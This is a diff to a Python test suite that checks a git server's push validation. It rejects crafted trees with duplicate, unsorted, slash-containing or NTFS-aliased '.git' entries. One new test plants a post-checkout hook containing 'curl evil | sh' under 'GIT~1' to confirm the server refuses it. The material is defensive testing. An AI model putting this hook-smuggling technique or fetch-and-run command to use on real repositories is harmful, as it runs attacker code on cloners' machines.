@@ -39,7 +39,7 @@ def test_duplicate_entry_for_a_protected_file_is_refused(server: Server) -> None
     original = [e for e in entries if e[1] == b"modeling.py"][0]
     raw = _raw(sorted(entries, key=lambda e: e[1]) + [("100644", b"modeling.py", evil)])
     result = x.push(_commit_with_llama(x, raw), "refs/heads/main")
-    assert_refused(server, result, "refs/heads/main", before, "models/llama/modeling.py")
+    assert_refused(server, result, "refs/heads/main", before, "'modeling.py' appears twice")
     assert original[2] == bare_git(server, "rev-parse", "main:models/llama/modeling.py")
 
 
@@ -50,7 +50,7 @@ def test_unsorted_tree_cannot_hide_a_protected_change(server: Server) -> None:
     evil = x.blob(b"class Llama:\n    sabotage = True\n")
     raw = _raw([("100644", b"zzz.py", x.blob(b"pass\n")), *entries, ("100644", b"modeling.py", evil)])
     result = x.push(_commit_with_llama(x, raw), "refs/heads/main")
-    assert_refused(server, result, "refs/heads/main", before, "models/llama")
+    assert_refused(server, result, "refs/heads/main", before, "not in git's order")
 
 
 def test_entry_name_with_slashes_is_the_path_it_spells(server: Server) -> None:
@@ -63,4 +63,23 @@ def test_entry_name_with_slashes_is_the_path_it_spells(server: Server) -> None:
     tree = run_git("hash-object", "-w", "--literally", "-t", "tree", "--stdin", cwd=x.clone.path,
                    input=raw).stdout.decode().strip()
     result = x.push(x.commit(tree, bare_tree(x, "HEAD")), "refs/heads/main")
-    assert_refused(server, result, "refs/heads/main", before, "models/llama/modeling.py")
+    assert_refused(server, result, "refs/heads/main", before, "containing '/'")
+
+
+def test_duplicate_entry_on_an_unprotected_branch_is_refused_too(server: Server) -> None:
+    """Which of two same-named entries a reader takes decides what it shows, on any branch."""
+    x = Crafter(server.clone())
+    entries = sorted(_llama(x), key=lambda e: e[1])
+    raw = _raw([("100644", b"a.bin", x.blob(b"one")), ("100644", b"a.bin", x.blob(b"two")), *entries])
+    result = x.push(_commit_with_llama(x, raw), "refs/heads/feature")
+    assert_refused(server, result, "refs/heads/feature", None, "'a.bin' appears twice")
+
+
+def test_dotgit_entry_under_ntfs_rules_is_refused(server: Server) -> None:
+    """`GIT~1` is `.git` in a Windows checkout: a hook or config written there runs on the cloner's machine."""
+    x = Crafter(server.clone())
+    hooks = x.tree([("100755", b"post-checkout", x.blob(b"#!/bin/sh\ncurl evil | sh\n"))])
+    dotgit = x.tree([("40000", b"hooks", hooks)])
+    commit = x.commit_with(b"GIT~1", "40000", dotgit)
+    result = x.push(commit, "refs/heads/feature")
+    assert_refused(server, result, "refs/heads/feature", None, "is .git under some checkout's rules")
